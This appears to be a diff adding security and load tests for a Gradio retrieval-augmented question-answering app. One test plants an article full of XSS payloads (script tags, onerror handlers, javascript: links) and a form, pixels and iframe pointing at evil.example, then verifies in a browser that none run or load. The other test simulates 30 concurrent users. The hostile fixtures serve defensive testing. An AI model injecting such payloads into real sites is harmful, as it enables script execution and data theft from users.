@@ -1,0 +1,126 @@
+"""The app under hostile input and load: a planted malicious article in a real browser, 30 users."""
+
+import json
+import shutil
+import threading
+import time
+import urllib.request
+
+import numpy as np
+import pytest
+
+import app as app_module
+from tests.conftest import CORPUS
+from tests.test_app import chromium_path, free_port
+
+DEBUG_SHOT = False
+HOSTILE = """---
+title: <script>window.__pwned = 'title'</script>Kerja sama Evilton
+outlet: <img src=x onerror="window.__pwned='outlet'">
+url: javascript:window.__pwned='url'
+---
+Kota Bogor menandatangani kerja sama dengan Kota Evilton <script>window.__pwned='script'</script> pada 1 Mei 2024.
+
+Wali Kota Evilton <img src=x onerror="window.__pwned='img'"> menyambut kerja sama itu [klik](javascript:window.__pwned='link').
+
+Foto kerja sama Evilton ![x](http://evil.example/track.png) <img src="http://evil.example/pixel.png"> dan <form action="http://evil.example/steal"><input name=q value=rahasia><button>Kirim</button></form> <iframe src="http://evil.example/"></iframe>
+"""
+
+
+def launch(assistant):
+    demo = app_module.build_app(assistant)
+    demo.queue(default_concurrency_limit=app_module.CONCURRENT_QUESTIONS)
+    port = free_port()
+    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, **app_module.launch_options())
+    return demo, f"http://127.0.0.1:{port}/"
+
+
+@pytest.fixture(scope="module")
+def hostile_app(tmp_path_factory, embedder):
+    from rag.config import load_settings
+    from rag.pipeline import Assistant
+    from rag.store import build_index
+
+    root = tmp_path_factory.mktemp("hostile")
+    corpus = root / "corpus"
+    shutil.copytree(CORPUS, corpus)
+    (corpus / "evilton.md").write_text(HOSTILE, encoding="utf-8")
+    settings = load_settings(corpus=corpus, index=root / "index", environ={})
+    build_index(settings, embedder, show_progress=False)
+    demo, url = launch(Assistant.open(settings, embedder))
+    yield url
+    demo.close()
+
+
+def test_a_malicious_article_runs_nothing_and_loads_nothing_from_elsewhere(hostile_app, tmp_path):
+    from playwright.sync_api import expect, sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=chromium_path(),
+            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
+                  "--disable-sync", "--no-first-run"],
+        )
+        try:
+            page = browser.new_page()
+            elsewhere = []
+            page.on("request", lambda r: elsewhere.append(r.url) if not r.url.startswith((hostile_app, "data:", "blob:")) else None)
+            response = page.goto(hostile_app)
+            assert "img-src 'self'" in response.headers["content-security-policy"]
+            box = page.get_by_label("Pertanyaan")
+            box.fill("Apa kerja sama Kota Bogor dengan Kota Evilton?")
+            box.press("Enter")
+            expect(page.get_by_text("evilton, karakter").first).to_be_visible(timeout=30_000)  # the source card
+            page.wait_for_timeout(1500)
+            page.screenshot(path="/tmp/hostile.png" if DEBUG_SHOT else str(tmp_path / "hostile.png"), full_page=True)
+            assert page.evaluate("window.__pwned") is None
+            assert page.get_by_text("<script>window.__pwned='script'</script>").count() >= 1  # shown as text
+            for selector in ("form[action*='evil']", "img[src*='evil']", "iframe[src*='evil']", "a[href^='javascript']"):
+                assert page.locator(selector).count() == 0, selector
+            assert elsewhere == []
+        finally:
+            browser.close()
+
+
+def ask_over_http(base: str, question: str, timeout: float = 120.0) -> tuple[float, dict]:
+    """One /ask call through Gradio's HTTP API (POST, then read the event stream)."""
+    started = time.perf_counter()
+    request = urllib.request.Request(
+        base + "gradio_api/call/ask", data=json.dumps({"data": [question, []]}).encode(),
+        headers={"Content-Type": "application/json"}, method="POST",
+    )
+    with urllib.request.urlopen(request, timeout=timeout) as response:
+        event_id = json.loads(response.read())["event_id"]
+    with urllib.request.urlopen(f"{base}gradio_api/call/ask/{event_id}", timeout=timeout) as stream:
+        body = stream.read().decode("utf-8")
+    data = [line[len("data: "):] for line in body.splitlines() if line.startswith("data: ")]
+    return time.perf_counter() - started, json.loads(data[-1])[0]
+
+
+def test_thirty_users_asking_at_once_all_get_an_answer(assistant):
+    demo, url = launch(assistant)
+    questions = ["Siapa Wali Kota Kisarazu?", "Sejak kapan Kota Bogor resmi bergabung dengan UCLG ASPAC?",
+                 "Di mana World Smart City Expo 2024 diselenggarakan?"]
+    results, errors = [], []
+    start = threading.Barrier(30)
+
+    def user(i):
+        try:
+            start.wait(timeout=30)
+            results.append(ask_over_http(url, questions[i % len(questions)]))
+        except Exception as error:  # noqa: BLE001 (recorded and asserted below)
+            errors.append(repr(error))
+
+    try:
+        threads = [threading.Thread(target=user, args=(i,)) for i in range(30)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(timeout=180)
+    finally:
+        demo.close()
+    assert errors == []
+    assert len(results) == 30
+    assert all(not answer["abstained"] and answer["citations"] for _, answer in results)
+    seconds = np.array([s for s, _ in results])
+    print(f"30 users: p50 {np.percentile(seconds, 50) * 1000:.0f} ms, p95 {np.percentile(seconds, 95) * 1000:.0f} ms")
